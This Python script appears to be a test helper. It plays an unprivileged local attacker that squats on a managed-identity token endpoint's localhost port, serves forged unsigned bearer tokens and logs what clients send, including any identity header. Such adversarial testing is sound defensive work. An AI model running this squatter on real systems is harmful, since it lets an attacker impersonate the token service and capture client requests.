"""Another uid's squatter on a managed identity endpoint's port (run as a script).

It tries to ``bind()`` 127.0.0.1:PORT every millisecond (``SO_REUSEADDR``,
the most a process without privileges can do) until ``--seconds`` pass. If
it ever gets the port it listens, answers every request with a forged token
and records what it was sent. ``--log`` ends up as one JSON object::

    {"attempts": N, "bound": false, "connections": 0, "bytes": 0,
     "identity_header_seen": false, "forged_tokens_sent": 0}

    python endpoint_squatter.py --port PORT --seconds S --log PATH --ready PATH

``--ready`` says ``trying`` once it runs, ``bound`` once it holds the port.
"""

from __future__ import annotations

import argparse
import json
import socket
import time
from pathlib import Path

FORGED_TOKEN = "eyJhbGciOiJub25lIn0.eyJzdWIiOiJtYWxsb3J5In0.forged-by-the-squatter"


def _forged_answer() -> bytes:
    body = json.dumps(
        {
            "access_token": FORGED_TOKEN,
            "expires_on": str(int(time.time()) + 3600),
            "resource": "https://graph.microsoft.com",
            "token_type": "Bearer",
            "client_id": "mallory",
        }
    ).encode()
    head = (
        "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
        f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n"
    )
    return head.encode() + body


def _serve(sock: socket.socket, until: float, report: dict[str, object]) -> None:
    sock.listen(16)
    sock.settimeout(0.05)
    while time.monotonic() < until:
        try:
            conn, _ = sock.accept()
        except TimeoutError:
            continue
        with conn:
            report["connections"] = int(str(report["connections"])) + 1
            conn.settimeout(1)
            try:
                data = conn.recv(65536)
            except OSError:
                data = b""
            report["bytes"] = int(str(report["bytes"])) + len(data)
            if b"x-identity-header" in data.lower():
                report["identity_header_seen"] = True
            try:
                conn.sendall(_forged_answer())
                report["forged_tokens_sent"] = int(str(report["forged_tokens_sent"])) + 1
            except OSError:
                pass


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--seconds", type=float, required=True)
    parser.add_argument("--log", type=Path, required=True)
    parser.add_argument("--ready", type=Path, required=True)
    args = parser.parse_args()
    report: dict[str, object] = {
        "attempts": 0,
        "bound": False,
        "connections": 0,
        "bytes": 0,
        "identity_header_seen": False,
        "forged_tokens_sent": 0,
    }
    until = time.monotonic() + args.seconds
    args.ready.write_text("trying\n")
    try:
        while time.monotonic() < until:
            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            report["attempts"] = int(str(report["attempts"])) + 1
            try:
                sock.bind(("127.0.0.1", args.port))
            except OSError:
                sock.close()
                time.sleep(0.001)
                continue
            report["bound"] = True
            args.ready.write_text("bound\n")
            with sock:
                _serve(sock, until, report)
    finally:
        args.log.write_text(json.dumps(report) + "\n")


if __name__ == "__main__":
    main()
